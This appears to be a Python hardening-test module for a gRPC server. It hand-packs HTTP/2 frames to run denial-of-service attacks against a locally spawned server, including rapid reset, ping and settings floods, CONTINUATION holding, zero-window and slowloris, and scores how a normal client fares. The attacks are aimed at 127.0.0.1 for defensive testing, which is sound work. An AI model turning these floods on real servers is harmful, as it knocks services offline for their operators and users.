"""Cheap HTTP/2 attacks from raw sockets, and the harness that scores a transport against them.

Each attack (issue 24 section 2) is a function of `(port, stop)` that hammers a server on
127.0.0.1 until the `stop` event is set. `run_attack` starts a fresh server in its own
process (`attack_server.py`), runs one attack in another process (so the attacker's CPU
does not slow the measuring client's loop), and meanwhile a well-behaved grpc.aio client
calls `Hello` and counts what it got, during the attack and two seconds after it. The
test suite (`test_attacks.py`) and `benchmarks/attacks.py` share it.

Frames are packed by hand (9-byte header + payload) rather than through h2's state
machine: an attacker does not obey the protocol, and packing is what makes a flood cheap.
The header block is HPACK-encoded once, never indexed, so it can be resent verbatim.
"""

from __future__ import annotations

import asyncio
import contextlib
import multiprocessing
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from hpack import Encoder, NeverIndexedHeaderTuple

from .attack_server import SERVICE

ROOT = Path(__file__).resolve().parents[2]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
INITIAL_WINDOW_SIZE = 0x4


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id)
        + payload
    )


def settings(**values: int) -> bytes:
    codes = {"initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(
        SETTINGS, 0, 0, b"".join(struct.pack(">HI", codes[k], v) for k, v in values.items())
    )


def block(method: str) -> bytes:
    """The request header block of a gRPC call to `method`, reusable on any stream."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"{SERVICE}/{method}"),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in headers])


def message(text: bytes = b"x") -> bytes:
    """A gRPC-framed `Note(text=...)`."""
    body = b"\x0a" + bytes((len(text),)) + text
    return b"\x00" + struct.pack(">I", len(body)) + body


def open_h2(port: int, *, hello: bytes = b"") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(PREFACE + (hello or settings()) + frame(SETTINGS, 1, 0))  # our SETTINGS, ACK
    return sock


def drain(sock: socket.socket, stop: threading.Event) -> threading.Thread:
    """Read and discard what the server sends, as a real attacker's client would."""

    def run() -> None:
        with contextlib.suppress(OSError):
            sock.settimeout(0.2)
        while not stop.is_set():
            try:
                if not sock.recv(1 << 16):
                    return
            except TimeoutError:
                continue
            except OSError:
                return

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def _send_loop(port: int, stop: threading.Event, burst: Callable[[int], bytes]) -> None:
    """Reconnect and send `burst(i)` over and over until `stop` (a server may GOAWAY us)."""
    while not stop.is_set():
        try:
            sock = open_h2(port)
        except OSError:
            time.sleep(0.05)
            continue
        drain(sock, stop)
        i = 0
        try:
            while not stop.is_set():
                sock.sendall(burst(i))
                i += 1
        except OSError:
            pass
        finally:
            sock.close()


def rapid_reset(port: int, stop: threading.Event, *, end_stream: bool = True) -> None:
    headers = block("Hello")
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    rst = struct.pack(">I", CANCEL)

    def burst(i: int) -> bytes:
        first = 1 + 200 * i
        return b"".join(
            frame(HEADERS, flags, sid, headers) + frame(RST_STREAM, 0, sid, rst)
            for sid in range(first, first + 200, 2)
        )

    _send_loop(port, stop, burst)


def rapid_reset_open(port: int, stop: threading.Event) -> None:
    rapid_reset(port, stop, end_stream=False)


def ping_flood(port: int, stop: threading.Event) -> None:
    pings = frame(PING, 0, 0, b"12345678") * 500
    _send_loop(port, stop, lambda i: pings)


def settings_flood(port: int, stop: threading.Event) -> None:
    many = settings(initial_window_size=65535) * 500
    _send_loop(port, stop, lambda i: many)


def empty_data_flood(port: int, stop: threading.Event) -> None:
    opener = frame(HEADERS, END_HEADERS, 1, block("Collect"))
    empties = frame(DATA, 0, 1) * 1000
    _send_loop(port, stop, lambda i: opener + empties if i == 0 else empties)


def priority_flood(port: int, stop: threading.Event) -> None:
    def burst(i: int) -> bytes:
        return b"".join(
            frame(PRIORITY, 0, sid, struct.pack(">IB", 0, 15))
            for sid in range(1 + 1000 * i, 1001 + 1000 * i, 2)
        )

    _send_loop(port, stop, burst)


def never_read(port: int, stop: threading.Event) -> None:
    """Huge windows granted, a large server stream asked for, the socket never read."""
    sockets = []
    for _ in range(4):
        sock = open_h2(port, hello=settings(initial_window_size=(1 << 31) - 1))
        sock.sendall(
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
            + b"".join(
                frame(HEADERS, END_HEADERS, sid, block("Flood"))
                + frame(DATA, END_STREAM, sid, message())
                for sid in range(1, 20, 2)
            )
        )
        sockets.append(sock)
    stop.wait()


def continuation(port: int, stop: threading.Event, *, connections: int = 300) -> None:
    """Hundreds of connections, each holding an unfinished header block."""
    held = []
    chunk = b"\x00" * 16384
    for _ in range(connections):
        if stop.is_set():
            break
        try:
            sock = open_h2(port)
            sock.sendall(frame(HEADERS, 0, 1, block("Hello")))
            sock.settimeout(0.5)
            for _ in range(64):  # up to 1 MiB each, as long as the server takes it
                sock.sendall(frame(CONTINUATION, 0, 1, chunk))
        except OSError:
            pass
        held.append(sock)
    stop.wait()


def zero_window(port: int, stop: threading.Event) -> None:
    """A zero initial window and many server streams: the server can send nothing."""
    sock = open_h2(port, hello=settings(initial_window_size=0))
    drain(sock, stop)
    sock.sendall(
        b"".join(
            frame(HEADERS, END_HEADERS, sid, block("Flood"))
            + frame(DATA, END_STREAM, sid, message())
            for sid in range(1, 400, 2)
        )
    )
    stop.wait()


def idle_streams(port: int, stop: threading.Event) -> None:
    """100 client streams opened on one connection and never sent to."""
    sock = open_h2(port)
    drain(sock, stop)
    sock.sendall(
        b"".join(frame(HEADERS, END_HEADERS, sid, block("Collect")) for sid in range(1, 201, 2))
    )
    stop.wait()


def slowloris(port: int, stop: threading.Event) -> None:
    """Connections that send the preface byte by byte, half a frame, or nothing at all."""
    socks: list[tuple[socket.socket, bytes]] = []
    half = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, block("Hello"))[:20]
    for i in range(300):
        with contextlib.suppress(OSError):
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
            socks.append((sock, [PREFACE, half, b""][i % 3]))
    pos = 0
    while not stop.is_set():
        for sock, data in socks:
            if pos < len(data):
                with contextlib.suppress(OSError):
                    sock.send(data[pos : pos + 1])
        pos += 1
        stop.wait(0.2)


ATTACKS: dict[str, Callable[[int, threading.Event], None]] = {
    "rapid_reset": rapid_reset,
    "rapid_reset_open": rapid_reset_open,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "empty_data_flood": empty_data_flood,
    "priority_flood": priority_flood,
    "never_read": never_read,
    "continuation": continuation,
    "zero_window": zero_window,
    "idle_streams": idle_streams,
    "slowloris": slowloris,
}


def _attacker(name: str, port: int, ready: object, done: object) -> None:
    """The attacker process: run attack `name` until `done` is set."""
    stop = threading.Event()
    thread = threading.Thread(target=ATTACKS[name], args=(port, stop), daemon=True)
    thread.start()
    ready.set()  # type: ignore[attr-defined]
    done.wait()  # type: ignore[attr-defined]
    stop.set()
    thread.join(2)


# -- the harness


@dataclass
class Score:
    """How the well-behaved client fared against one attack."""

    transport: str
    attack: str
    during: float  # share of calls that succeeded during the attack
    after: float  # ... two seconds after it stopped
    first_after: float | None  # seconds from the attack's end to the first good call
    rss_delta_mb: float  # the server's peak RSS growth
    alive: bool
    errors: list[str] = field(default_factory=list)

    @property
    def passed(self) -> bool:
        return self.alive and self.during >= 0.5 and self.after == 1.0 and self.rss_delta_mb <= 300


def rss_mb(pid: int) -> float:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0.0
    for line in status.splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


class Server:
    """A fresh attack server in its own process."""

    def __init__(self, transport: str) -> None:
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "tests.hardening.attack_server", transport],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=ROOT,
            env=env,
        )
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline().decode()
        if not line.startswith("PORT "):
            self.stop()
            raise RuntimeError(f"the {transport} attack server did not start: {line!r}")
        self.port = int(line.split()[1])

    def alive(self) -> bool:
        return self.proc.poll() is None

    def stop(self) -> None:
        with contextlib.suppress(OSError):
            assert self.proc.stdin is not None
            self.proc.stdin.close()
        try:
            self.proc.wait(5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(5)
        if self.proc.stdout is not None:
            self.proc.stdout.close()


async def _good_calls(port: int, until: float, results: list[tuple[float, bool]]) -> None:
    import grpc
    import grpc.aio

    request = message(b"good")[5:]
    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
        hello = channel.unary_unary(f"{SERVICE}/Hello")
        while time.monotonic() < until:
            try:
                await hello(request, timeout=1.0)
                ok = True
            except grpc.aio.AioRpcError:
                ok = False
            results.append((time.monotonic(), ok))
            if not ok:
                await asyncio.sleep(0.05)


async def score(transport: str, attack: str, *, during: float = 2.0, ramp: float = 0.5) -> Score:
    """Run `attack` against a fresh `transport` server and score the good client."""
    server = Server(transport)
    ctx = multiprocessing.get_context("spawn")
    ready, done = ctx.Event(), ctx.Event()
    attacker = ctx.Process(target=_attacker, args=(attack, server.port, ready, done), daemon=True)
    try:
        base = rss_mb(server.proc.pid)
        peak = base
        warm: list[tuple[float, bool]] = []
        await _good_calls(server.port, time.monotonic() + 0.2, warm)
        attacker.start()
        await asyncio.get_running_loop().run_in_executor(None, ready.wait, 10)
        start = time.monotonic() + ramp
        end = start + during
        results: list[tuple[float, bool]] = []
        clients = [_good_calls(server.port, end + 3.0, results) for _ in range(2)]
        task = asyncio.gather(*clients)
        while time.monotonic() < end:
            peak = max(peak, rss_mb(server.proc.pid))
            await asyncio.sleep(0.1)
        done.set()
        await asyncio.get_running_loop().run_in_executor(None, attacker.join, 5)
        stopped = time.monotonic()
        while not task.done():
            peak = max(peak, rss_mb(server.proc.pid))
            await asyncio.sleep(0.1)
        await task
        in_attack = [ok for t, ok in results if start <= t < end]
        late = [ok for t, ok in results if t >= stopped + 2.0]
        firsts = [t - stopped for t, ok in results if ok and t >= stopped]
        return Score(
            transport,
            attack,
            during=sum(in_attack) / len(in_attack) if in_attack else 0.0,
            after=sum(late) / len(late) if late else 0.0,
            first_after=min(firsts) if firsts else None,
            rss_delta_mb=peak - base,
            alive=server.alive(),
        )
    finally:
        done.set()
        if attacker.is_alive():
            attacker.kill()
        server.stop()


def available(transport: str) -> bool:
    """Whether this machine can serve `transport` (a transport added later, or an optional
    extra not installed, is skipped rather than failed)."""
    from cello import GrpcConfig

    try:
        GrpcConfig(transport=transport)
    except ValueError:
        return False
    return True
